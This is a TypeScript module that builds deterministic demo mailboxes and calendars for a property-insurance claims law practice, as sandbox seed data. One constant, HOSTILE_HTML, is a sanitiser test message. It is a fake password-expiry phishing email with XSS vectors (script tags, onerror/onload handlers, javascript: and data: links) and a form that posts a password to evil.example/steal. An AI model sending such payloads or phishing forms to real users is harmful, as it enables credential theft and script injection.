import { createHash } from 'node:crypto';
import { fromWallClock } from './calendar';
import { minimalPdf, smallPng, TINY_JPEG } from './files';
import { mulberry32 } from './random';
import type {
  DemoFacts,
  SandboxAccount,
  SandboxSeed,
  SeedAttachment,
  SeedAttendee,
  SeedEvent,
  SeedMessage,
} from './types';

/**
 * The demo's mail: what a property-claims practice's inbox looks like over three weeks. Everything
 * is derived from the facts (no unseeded randomness), so the same facts give the same mail.
 */

type Case = DemoFacts['cases'][number];

interface Context {
  facts: DemoFacts;
  kase: Case;
  to: string;
  at: Date;
  round: number;
  random: () => number;
}

interface Template {
  important?: boolean;
  build(context: Context): Omit<SeedMessage, 'receivedAt' | 'to'> & { to?: string[] };
}

const slug = (text: string) =>
  text
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '') || 'carrier';

const carrierDomain = (kase: Case) => `${slug(kase.carrier)}.example`;
const firmDomain = (facts: DemoFacts) => facts.attorney.googleEmail.split('@')[1] ?? 'firm.example';
const firstName = (name: string) => name.split(/\s+/)[0] ?? name;
const longDate = (date: Date) =>
  date.toLocaleDateString('en-US', { year: 'numeric', month: 'long', day: 'numeric', timeZone: 'UTC' });
const later = (date: Date, days: number) => new Date(date.getTime() + days * 86_400_000);

const ADJUSTERS = ['Dana Whitfield', 'Marcus Oyelaran', 'Priya Raman', 'Tom Kessler', 'Elena Sokolova'];
const pick = <T>(items: readonly T[], index: number): T => items[Math.abs(index) % items.length] as T;
const adjusterFor = (context: Context) => {
  const name = pick(ADJUSTERS, context.facts.cases.indexOf(context.kase) + context.round);
  return { name, address: `${slug(name).replace('-', '.')}@${carrierDomain(context.kase)}` };
};

function letter(
  context: Context,
  from: string,
  heading: string,
  paragraphs: string[],
  signature: string[],
): Buffer {
  const { kase } = context;
  return minimalPdf(
    [
      heading,
      from,
      longDate(context.at),
      '',
      `Re: Claim No. ${kase.claimNumber}`,
      `Policy No. ${kase.policyNumber}`,
      `Insured: ${kase.clientName}`,
      `Loss location: ${kase.address}`,
      '',
      ...paragraphs.flatMap((paragraph) => [paragraph, '']),
      ...signature,
    ],
    `${heading} - Claim ${kase.claimNumber}`,
  );
}

const pdf = (name: string, content: Buffer): SeedAttachment => ({
  name,
  mimeType: 'application/pdf',
  content,
});

const html = (paragraphs: string[]) =>
  `<div dir="ltr">${paragraphs.map((p) => `<p>${p}</p>`).join('')}</div>`;

const CASE_TEMPLATES: Template[] = [
  {
    important: true,
    build(context) {
      const { kase } = context;
      const adjuster = adjusterFor(context);
      const due = longDate(later(context.at, 60));
      const text = `Counsel,\n\nWe acknowledge your letter of representation for ${kase.clientName}. Pursuant to the policy conditions, we request a sworn proof of loss on the enclosed form within 60 days, by ${due}. Please include the itemized contents inventory and any repair estimates.\n\nRegards,\n${adjuster.name}\nSenior Property Adjuster, ${kase.carrier}`;
      return {
        from: adjuster,
        subject: `RE: Claim ${kase.claimNumber} – request for sworn proof of loss`,
        text,
        html: html(text.split('\n\n').map((p) => p.replace(/\n/g, '<br>'))),
        attachments: [
          pdf(
            `Proof_of_Loss_Request_${kase.claimNumber}.pdf`,
            letter(
              context,
              kase.carrier,
              'Request for Sworn Statement in Proof of Loss',
              [
                `Dear Counsel: ${kase.carrier} requests that the insured submit a Sworn Statement in Proof of Loss for claim ${kase.claimNumber} within sixty (60) days of this letter, no later than ${due}.`,
                'The proof of loss must state the time and cause of loss, the interest of the insured and all others in the property, the actual cash value and amount of loss claimed, and must be signed and sworn before a notary.',
                'This request is made under a full reservation of rights. Nothing in this letter waives any term, condition or exclusion of the policy.',
              ],
              [adjuster.name, 'Senior Property Adjuster', kase.carrier],
            ),
          ),
        ],
      };
    },
  },
  {
    important: true,
    build(context) {
      const { kase } = context;
      const adjuster = adjusterFor(context);
      return {
        from: adjuster,
        subject: `Reservation of rights – Claim ${kase.claimNumber} / Policy ${kase.policyNumber}`,
        text: `Please see the attached reservation of rights letter regarding claim ${kase.claimNumber} for the loss at ${kase.address}. Our investigation continues.\n\n${adjuster.name}\n${kase.carrier}`,
        attachments: [
          pdf(
            `ROR_${kase.claimNumber}.pdf`,
            letter(
              context,
              kase.carrier,
              'Reservation of Rights',
              [
                `${kase.carrier} is investigating claim ${kase.claimNumber} under policy ${kase.policyNumber} subject to a full reservation of rights.`,
                'Coverage questions include whether the damage results from long-term seepage or leakage, wear and tear, or deterioration, which the policy excludes, and whether the insured took reasonable steps to protect the property from further damage.',
                'We also reserve the right to request an examination under oath and to inspect the property again. Please direct all communication regarding this claim to the undersigned.',
              ],
              [adjuster.name, 'Senior Property Adjuster', kase.carrier],
            ),
          ),
        ],
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      const text = `Hi ${firstName(context.facts.attorney.name)},\n\nI got another letter from ${kase.carrier} today and I'm not sure what they're asking for. Do I need to do anything before our call? Also, the mold smell in the back bedroom is getting worse — is it ok to have someone come out to dry it?\n\nThanks,\n${kase.clientName}`;
      return {
        from: { name: kase.clientName, address: kase.clientEmail },
        subject: `Question about ${kase.caseNumber}`,
        text,
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      const total = (18_000 + Math.floor(context.random() * 64_000)).toLocaleString('en-US');
      return {
        from: { name: 'Luis Rivera', address: 'luis@rivera-restoration.example' },
        subject: `Estimate for ${kase.address} – water mitigation and rebuild`,
        cc: [kase.clientEmail],
        text: `Attached is our Xactimate-style estimate for ${kase.clientName}'s property at ${kase.address} (claim ${kase.claimNumber}). Total replacement cost: $${total}. Happy to walk the adjuster through the line items.\n\nLuis Rivera\nRivera Restoration & Rebuild`,
        attachments: [
          pdf(
            `Estimate_${slug(kase.address).slice(0, 24)}.pdf`,
            letter(
              context,
              'Rivera Restoration & Rebuild',
              'Repair Estimate',
              [
                'Scope: emergency water extraction, structural drying (4 days, 6 air movers, 2 dehumidifiers), removal of wet drywall to 4 ft, antimicrobial treatment.',
                'Rebuild: replace drywall and insulation, texture and paint, replace laminate flooring (640 sq ft), baseboards, kitchen base cabinets.',
                `Total replacement cost value: $${total}. Overhead and profit included at 10% and 10%.`,
              ],
              ['Luis Rivera', 'Estimator', 'Rivera Restoration & Rebuild'],
            ),
          ),
        ],
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      return {
        from: { name: 'Karin Halvorsen, P.E.', address: 'khalvorsen@halvorsen-eng.example' },
        subject: `Engineering report – ${kase.address} (Claim ${kase.claimNumber})`,
        text: `Counsel,\n\nOur report on the roof and framing at ${kase.address} is attached. In short: the damage is consistent with a single wind event, not long-term deterioration.\n\nKarin Halvorsen, P.E.`,
        attachments: [
          pdf(
            `Engineering_Report_${kase.claimNumber}.pdf`,
            letter(
              context,
              'Halvorsen Structural Engineering',
              'Engineering Inspection Report',
              [
                `We inspected the property at ${kase.address} at the request of counsel for ${kase.clientName}.`,
                'Findings: creased and lifted shingles on the windward slopes, displaced ridge cap, fresh fractures at the nail line; water staining at the ceiling directly below the displaced ridge cap.',
                'Opinion: to a reasonable degree of engineering certainty, the damage was caused by a wind event and is not the result of long-term deterioration or improper installation.',
              ],
              ['Karin Halvorsen, P.E.', 'Halvorsen Structural Engineering'],
            ),
          ),
        ],
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      return {
        from: { name: kase.clientName, address: kase.clientEmail },
        subject: `Photos of the damage – ${kase.caseNumber}`,
        text: `Here are the photos I took the morning after. The ceiling in the living room is the first one.\n\n${kase.clientName}`,
        attachments: [
          { name: 'IMG_4021.jpg', mimeType: 'image/jpeg', content: TINY_JPEG },
          {
            name: 'ceiling_stain.png',
            mimeType: 'image/png',
            content: smallPng(16, 12, [182, 160, 120], [96, 72, 48]),
          },
          {
            name: 'roof_from_yard.png',
            mimeType: 'image/png',
            content: smallPng(16, 12, [120, 150, 190], [70, 70, 70]),
          },
        ],
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      return {
        from: { name: 'Grace Okafor', address: 'grace@beacon-pa.test' },
        subject: `${kase.clientName} – scope comparison and supplement (Claim ${kase.claimNumber})`,
        text: `Hi,\n\nI compared the carrier's scope with the contractor's estimate for ${kase.address}. The carrier omitted the insulation, the cabinets and code upgrades. I'll send the supplement to ${kase.carrier} this week unless you'd rather handle it.\n\nGrace Okafor\nLicensed Public Adjuster, Beacon Public Adjusters`,
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      const adjuster = adjusterFor(context);
      const when = later(context.at, 9);
      return {
        from: adjuster,
        subject: `Re-inspection scheduled – Claim ${kase.claimNumber}`,
        text: `Counsel,\n\nOur field adjuster and a building consultant will re-inspect ${kase.address} on ${longDate(when)} at 10:00 AM. Please confirm your client will provide access.\n\n${adjuster.name}\n${kase.carrier}`,
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      return {
        from: { name: kase.clientName, address: kase.clientEmail },
        subject: `Re: ${kase.caseNumber} – hotel and meal receipts`,
        text: `Attached is the hotel receipt for last week. We're still out of the house. Does the policy pay for the storage unit too?\n\n${kase.clientName}`,
        attachments: [
          {
            name: 'receipt_hotel.png',
            mimeType: 'image/png',
            content: smallPng(12, 16, [250, 250, 245], [210, 210, 200]),
          },
        ],
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      return {
        from: { name: 'Loss Draft Department', address: 'lossdraft@cedarhomeloans.example' },
        subject: `Insurance check endorsement – ${kase.address}`,
        text: `We received notice of an insurance claim (${kase.claimNumber}) for the property at ${kase.address}. Claim checks naming Cedar Home Loans must be sent to our loss draft department for endorsement with the contractor's signed estimate and W-9.`,
      };
    },
  },
  {
    important: true,
    build(context) {
      const { kase } = context;
      const adjuster = adjusterFor(context);
      return {
        from: adjuster,
        subject: `Claim ${kase.claimNumber} – request for examination under oath`,
        text: `Counsel,\n\n${kase.carrier} requests the examination under oath of ${kase.clientName} regarding claim ${kase.claimNumber}. Please provide three dates in the next 30 days. Documents requested: tax returns for 3 years, mortgage statements, repair invoices.\n\n${adjuster.name}`,
      };
    },
  },
  {
    build(context) {
      const { kase } = context;
      return {
        from: {
          name: 'Scheduling – Lakeside Court Reporting',
          address: 'scheduling@lakeside-reporting.example',
        },
        subject: `Confirmed: EUO of ${kase.clientName} – ${kase.caseNumber}`,
        text: `This confirms a court reporter for the examination under oath of ${kase.clientName} (${kase.title}). Location: your office. Please reply with the final start time.`,
      };
    },
  },
];

const NEWSLETTER_HTML = `<!doctype html><html><body style="margin:0;background:#eef1f4">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<img src="https://images.countybar.example/header-2026.png" width="600" alt="County Bar Association">
<h1 style="font-family:Georgia,serif">Member Bulletin</h1>
<p>Insurance Law Section: lunch CLE on appraisal clauses after the latest appellate decision.</p>
<p><img src="https://images.countybar.example/speaker.jpg" width="120" alt="Speaker"> Judge (ret.) Helen Marsh on bad-faith claims handling.</p>
<p><a href="https://countybar.example/events/cle-appraisal?utm_source=bulletin">Register now</a></p>
<p style="font-size:11px;color:#777">You receive this as a member. <a href="https://countybar.example/unsubscribe?m=8812">Unsubscribe</a></p>
<img src="https://track.countybar.example/open.gif?m=8812&amp;c=bulletin" width="1" height="1" alt="" style="display:none">
</td></tr></table></body></html>`;

/** The one hostile message: everything a sanitiser must neutralise. The sandbox serves it verbatim. */
export const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/phish">
<base href="https://evil.example/">
<style>body{background:url(https://evil.example/x.png)} .x{width:expression(alert(5))}</style>
</head><body>
<p>Your document portal password expires today.</p>
<script>alert(1)</script>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)">Keep my password</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Verify</button></form>
<svg onload="alert(4)"><circle r="10"></circle></svg>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">View secure document</a>
</body></html>`;

function unrelated(facts: DemoFacts): { google: Template[]; microsoft: Template[] } {
  return {
    google: [
      {
        build: () => ({
          from: { name: 'County Bar Association', address: 'news@countybar.example' },
          subject: 'Member Bulletin: appraisal-clause CLE, new insurance section chair',
          html: NEWSLETTER_HTML,
        }),
      },
      {
        build: () => ({
          from: { name: 'IT Helpdesk', address: 'it-helpdesk@evil.example' },
          subject: 'Action required: your document portal password expires today',
          html: HOSTILE_HTML,
        }),
      },
    ],
    microsoft: [
      {
        build: (context) => ({
          from: { name: 'LexiDocket Billing', address: 'billing@lexidocket.example' },
          subject: 'Your LexiDocket invoice for this month',
          text: `Hello ${facts.attorney.name},\n\nYour invoice INV-${20_000 + Math.floor(context.random() * 9_000)} for the Practice plan ($149.00) is available in your account. Thank you for your business.`,
        }),
      },
      {
        build: () => ({
          from: { name: 'State CLE Board', address: 'noreply@cle-board.example' },
          subject: 'Reminder: 6 CLE credit hours remaining in your reporting period',
          html: html([
            'Our records show you still need <b>6.0</b> credit hours, including 1.0 ethics hour, before the end of your reporting period.',
          ]),
        }),
      },
    ],
  };
}

function hashSeed(facts: DemoFacts): number {
  return createHash('sha256').update(JSON.stringify(facts)).digest().readUInt32BE(0);
}

interface Planned {
  template: Template;
  kase: Case;
  round: number;
  provider: 'google' | 'microsoft';
}

function build(
  plan: Planned[],
  facts: DemoFacts,
  random: () => number,
  days: number,
): Record<'google' | 'microsoft', SeedMessage[]> {
  const out: Record<'google' | 'microsoft', SeedMessage[]> = { google: [], microsoft: [] };
  const span = days * 86_400_000;
  plan.forEach((item, index) => {
    // Oldest first, evenly spread with jitter; whole seconds like real mail servers.
    const slot = span / plan.length;
    const ago = span - (index + 0.1 + random() * 0.8) * slot;
    const at = new Date(Math.floor((facts.now.getTime() - ago) / 1000) * 1000);
    const to = item.provider === 'google' ? facts.attorney.googleEmail : facts.attorney.microsoftEmail;
    const context: Context = { facts, kase: item.kase, to, at, round: item.round, random };
    const built = item.template.build(context);
    const recent = facts.now.getTime() - at.getTime() < 2 * 86_400_000;
    out[item.provider].push({
      ...built,
      subject: item.round > 0 && !/^re:/i.test(built.subject) ? `Re: ${built.subject}` : built.subject,
      to: built.to ?? [to],
      receivedAt: at,
      unread: recent || random() < 0.25,
      important: item.template.important ?? false,
    });
  });
  return out;
}

function plan(facts: DemoFacts, total: number, random: () => number): Planned[] {
  const cases = facts.cases.length ? facts.cases : [];
  const items: Planned[] = [];
  const other = unrelated(facts);
  if (cases.length) {
    for (let index = 0; index < total; index++) {
      const template = CASE_TEMPLATES[index % CASE_TEMPLATES.length] as Template;
      const kase = cases[Math.floor(index / CASE_TEMPLATES.length) % cases.length] as Case;
      const round = Math.floor(index / (CASE_TEMPLATES.length * cases.length));
      items.push({ template, kase, round, provider: index % 9 < 5 ? 'google' : 'microsoft' });
    }
  }
  const fallback = cases[0] ?? {
    caseNumber: 'CASE-0000-000',
    title: 'General',
    claimNumber: 'CLM-0000-00000',
    policyNumber: 'POL-0000000',
    carrier: 'Example Mutual',
    clientName: 'Client',
    clientEmail: 'client@example.com',
    address: '1 Example Street',
  };
  for (const provider of ['google', 'microsoft'] as const) {
    for (const template of other[provider]) items.push({ template, kase: fallback, round: 0, provider });
  }
  // A deterministic shuffle, so each case's mail is spread across the weeks.
  for (let index = items.length - 1; index > 0; index--) {
    const swap = Math.floor(random() * (index + 1));
    [items[index], items[swap]] = [items[swap] as Planned, items[index] as Planned];
  }
  return items;
}

/** The practice's wall clock: the demo's cases are in Springfield, Illinois. */
export const SEED_TIME_ZONE = 'America/Chicago';

/**
 * The date (YYYY-MM-DD, on the practice's wall clock) `days` after `now`, moved to the Monday when
 * it falls on a weekend: hearings and inspections happen on working days.
 */
function workingDay(now: Date, days: number): string {
  const local = new Date(`${wallDate(now)}T12:00:00Z`);
  const day = new Date(local.getTime() + days * 86_400_000);
  const weekday = day.getUTCDay();
  const shift = weekday === 6 ? 2 : weekday === 0 ? 1 : 0;
  return new Date(day.getTime() + shift * 86_400_000).toISOString().slice(0, 10);
}

function wallDate(date: Date): string {
  return new Intl.DateTimeFormat('en-CA', {
    timeZone: SEED_TIME_ZONE,
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
  }).format(date);
}

/** A timed event on a working day `days` ahead, from `from` to `to` (HH:mm) in the practice's zone. */
const timed = (now: Date, days: number, from: string, to: string) => {
  const date = workingDay(now, days);
  return {
    start: fromWallClock(`${date}T${from}:00`, SEED_TIME_ZONE),
    end: fromWallClock(`${date}T${to}:00`, SEED_TIME_ZONE),
  };
};

/** An all-day event: the date and the day after (exclusive end), as Google and Graph count them. */
const allDay = (now: Date, days: number) => {
  const date = workingDay(now, days);
  const after = new Date(new Date(`${date}T00:00:00Z`).getTime() + 86_400_000).toISOString().slice(0, 10);
  return { start: date, end: after, allDay: true };
};

const person = (name: string, domain: string) => `${slug(name).replace('-', '.')}@${domain}`;

/**
 * The attorney's calendars over the four weeks after `now` (the demo's seeding time): on Google a
 * deposition, a re-inspection, a call with co-counsel on Meet and an appraisal panel day; on
 * Outlook a mediation at the mediator's office, a status conference in court and client meetings.
 * Derived from the facts only, so the same facts give the same events.
 */
export function practiceCalendar(facts: DemoFacts): { google: SeedEvent[]; microsoft: SeedEvent[] } {
  const fallback: Case = {
    caseNumber: 'CASE-0000-000',
    title: 'General',
    claimNumber: 'CLM-0000-00000',
    policyNumber: 'POL-0000000',
    carrier: 'Example Mutual',
    clientName: 'Client',
    clientEmail: 'client@example.com',
    address: '1 Example Street, Springfield',
  };
  const kase = (index: number): Case => facts.cases[index % Math.max(facts.cases.length, 1)] ?? fallback;
  const { now } = facts;
  const firm = firmDomain(facts);
  const attorney: SeedAttendee = {
    name: facts.attorney.name,
    email: facts.attorney.googleEmail,
    response: 'accepted',
  };
  const adjuster = (index: number) => {
    const name = pick(ADJUSTERS, index);
    return { name, email: person(name, carrierDomain(kase(index))) };
  };
  const client = (index: number): SeedAttendee => ({
    name: kase(index).clientName,
    email: kase(index).clientEmail,
  });
  const carrierCounsel = (index: number) => ({
    name: 'Renata Voss',
    email: `rvoss@${slug(kase(index).carrier)}-counsel.example`,
  });
  const details = (index: number, lines: string[]) =>
    html([
      `<b>${kase(index).caseNumber}</b> – ${kase(index).title}`,
      `Claim ${kase(index).claimNumber} · Policy ${kase(index).policyNumber} · ${kase(index).carrier}`,
      ...lines,
    ]);

  const deposition = adjuster(0);
  const google: SeedEvent[] = [
    {
      title: `Deposition - ${deposition.name} (${kase(0).carrier} adjuster) - ${kase(0).caseNumber}`,
      ...timed(now, 3, '10:00', '13:00'),
      location: 'Lakeside Court Reporting, 310 E Adams St, Suite 500, Springfield, IL 62701',
      description: details(0, [
        `Deposition of the field adjuster who wrote the denial of ${kase(0).clientName}’s claim.`,
        'Exhibits: claim file, both estimates, the denial letter. Court reporter and videographer confirmed.',
      ]),
      attendees: [
        attorney,
        { ...deposition, response: 'accepted' },
        { ...carrierCounsel(0), response: 'tentative' },
        {
          name: 'Lakeside Court Reporting',
          email: 'scheduling@lakeside-reporting.example',
          response: 'accepted',
        },
      ],
    },
    {
      title: `Property Re-inspection - ${kase(1).caseNumber}`,
      ...timed(now, 6, '09:30', '11:30'),
      location: kase(1).address || fallback.address,
      description: details(1, [
        'Re-inspection with our engineer and the carrier’s adjuster. Photograph the roof decking and attic.',
      ]),
      attendees: [
        attorney,
        { name: 'Sam Ortega, P.E.', email: `sortega@ortega-engineering.example`, response: 'accepted' },
        { ...adjuster(1), response: 'needsAction' },
        { ...client(1), response: 'accepted' },
      ],
    },
    {
      title: `Call with co-counsel - ${kase(2).caseNumber} bad-faith strategy`,
      ...timed(now, 8, '15:00', '15:45'),
      description: details(2, ['Agenda: appraisal demand, bad-faith letter, expert budget.']),
      attendees: [
        attorney,
        { name: 'Jordan Blake', email: 'jblake@blake-appellate.example', response: 'accepted' },
        { name: 'Morgan Lee', email: `mlee@${firm}`, response: 'declined' },
      ],
      conferenceUrl: `https://meet.google.com/${meetCode(facts)}`,
    },
    {
      title: `Appraisal panel - ${kase(2).caseNumber}`,
      ...allDay(now, 13),
      location: kase(2).address || fallback.address,
      description: details(2, [
        'Appraisal of the amount of loss under the policy’s appraisal clause: both appraisers and the umpire walk the property, then hear both sides.',
      ]),
      attendees: [
        attorney,
        {
          name: 'Hal Brenner (insured’s appraiser)',
          email: 'hal@brenner-appraisal.example',
          response: 'accepted',
        },
        { name: 'Judge (ret.) Helen Marsh (umpire)', email: 'hmarsh@umpire.example', response: 'tentative' },
        { ...adjuster(2), response: 'needsAction' },
      ],
    },
  ];

  const microsoft: SeedEvent[] = [
    {
      title: `Mediation Session - ${kase(0).caseNumber}`,
      ...timed(now, 10, '09:00', '16:00'),
      location: 'Springfield ADR Center, 400 S Lincoln Ave, Suite 1200, Springfield, IL 62704',
      description: details(0, [
        'Full-day mediation before Pat Alvarez. Mediation statement due two days before; client attends in person.',
      ]),
      attendees: [
        { name: 'Pat Alvarez (mediator)', email: 'palvarez@springfield-adr.example', response: 'accepted' },
        { ...carrierCounsel(0), response: 'accepted' },
        { ...client(0), response: 'tentative' },
        { ...adjuster(0), response: 'declined' },
      ],
    },
    {
      title: `Court Appearance - Status conference - ${kase(1).caseNumber}`,
      ...timed(now, 15, '09:30', '10:00'),
      location: 'Sangamon County Courthouse, Courtroom 4B, 200 S 9th St, Springfield, IL 62701',
      description: details(1, [
        'Status conference: discovery schedule and the carrier’s motion to compel appraisal.',
      ]),
      attendees: [{ ...carrierCounsel(1), response: 'needsAction' }],
    },
    {
      title: `Client Meeting - ${kase(2).clientName} - ${kase(2).caseNumber}`,
      ...timed(now, 5, '16:00', '17:00'),
      description: details(2, ['Prepare for the appraisal panel: walk through the contractor’s estimate.']),
      attendees: [{ ...client(2), response: 'accepted' }],
      conferenceUrl: `https://teams.microsoft.com/l/meetup-join/19%3ameeting_${meetCode(facts).replace(/-/g, '')}%40thread.v2/0`,
    },
    {
      title: `Client Meeting - ${kase(0).clientName} - EUO preparation - ${kase(0).caseNumber}`,
      ...timed(now, 19, '14:00', '15:30'),
      location: `${facts.attorney.name}’s office`,
      description: details(0, ['Prepare the client for the examination under oath.']),
      attendees: [{ ...client(0), response: 'needsAction' }],
    },
  ];
  return { google, microsoft };
}

/** A Meet-style code (xxx-xxxx-xxx) derived from the facts. */
function meetCode(facts: DemoFacts): string {
  const letters = createHash('sha256')
    .update(`meet:${facts.attorney.googleEmail}`)
    .digest()
    .subarray(0, 10)
    .map((byte) => 97 + (byte % 26));
  const text = Buffer.from(letters).toString('latin1');
  return `${text.slice(0, 3)}-${text.slice(3, 7)}-${text.slice(7, 10)}`;
}

/**
 * The attorney's mailboxes (~22 Google, ~18 Microsoft messages over 21 days) and calendars (the
 * four weeks ahead, see practiceCalendar) plus each client's small Gmail.
 */
export function claimsPracticeSeed(facts: DemoFacts): SandboxSeed {
  const random = mulberry32(hashSeed(facts));
  const mail = build(plan(facts, 36, random), facts, random, 21);
  const calendar = practiceCalendar(facts);
  const google: SandboxAccount[] = [
    {
      email: facts.attorney.googleEmail,
      name: facts.attorney.name,
      messages: mail.google,
      events: calendar.google,
    },
  ];
  const microsoft: SandboxAccount[] = [
    {
      email: facts.attorney.microsoftEmail,
      name: facts.attorney.name,
      messages: mail.microsoft,
      events: calendar.microsoft,
    },
  ];
  for (const client of facts.clients) {
    if (!client.googleEmail) continue;
    const kase =
      facts.cases.find((candidate) => candidate.clientEmail.toLowerCase() === client.email.toLowerCase()) ??
      facts.cases.find((candidate) => candidate.clientName === client.name);
    const reference = kase ? `${kase.caseNumber} (claim ${kase.claimNumber})` : 'your claim';
    const from = { name: facts.attorney.name, address: facts.attorney.googleEmail };
    const letters = [
      [
        'Welcome – next steps on your property claim',
        `Thank you for choosing us. We have opened ${reference}. Please keep every receipt and do not give a recorded statement to the insurer without us.`,
      ],
      [
        'Documents we need from you',
        `For ${reference}, please upload your policy declarations page, photos of the damage and any letters from the insurer to the client portal.`,
      ],
      [
        'Inspection scheduled',
        `The insurer will re-inspect the property for ${reference}. We will attend. Please make sure someone can give access.`,
      ],
      [
        'Update on your claim',
        `We sent the sworn proof of loss for ${reference} today. The insurer has 30 days to accept or deny it. We will let you know as soon as we hear back.`,
      ],
      [
        'Your examination under oath – what to expect',
        `The examination under oath for ${reference} is a formal interview under oath. We will prepare together the week before.`,
      ],
    ];
    const count = 3 + (createHash('sha256').update(client.googleEmail).digest().readUInt8(0) % 3);
    const messages = letters.slice(0, count).map(([subject, body], index) => ({
      from,
      to: [client.googleEmail as string],
      subject: subject as string,
      text: `Dear ${client.name},\n\n${body}\n\n${facts.attorney.name}\n${firmDomain(facts)}`,
      receivedAt: new Date(
        Math.floor((facts.now.getTime() - (18 - index * 4) * 86_400_000 - index * 3_600_000) / 1000) * 1000,
      ),
      unread: index === count - 1,
    }));
    google.push({ email: client.googleEmail, name: client.name, messages });
  }
  return { google, microsoft };
}

/** The addresses of the accounts in a seed, so callers know whom to sign in as. */
export function seedAccountEmails(seed: SandboxSeed): { google: string[]; microsoft: string[] } {
  return {
    google: (seed.google ?? []).map((account) => account.email),
    microsoft: (seed.microsoft ?? []).map((account) => account.email),
  };
}

/** `count` messages over `days` (default 30) from the same templates, some with small attachments: for sync benchmarks. */
export function bulkMailbox(count: number, facts: DemoFacts, options: { days?: number } = {}): SeedMessage[] {
  const random = mulberry32(hashSeed(facts) ^ count);
  const items = plan(facts, Math.max(count - 4, 0), random).map((item) => ({
    ...item,
    provider: 'google' as const,
  }));
  const mail = build(items.slice(0, count), facts, random, options.days ?? 30).google;
  while (mail.length < count) {
    const base = mail[mail.length % Math.max(mail.length, 1)] ?? {
      from: { address: 'sender@example.com' },
      to: [facts.attorney.googleEmail],
      subject: 'Message',
      text: 'Hello',
      receivedAt: facts.now,
    };
    mail.push({ ...base, subject: `${base.subject} (${mail.length})` });
  }
  return mail;
}
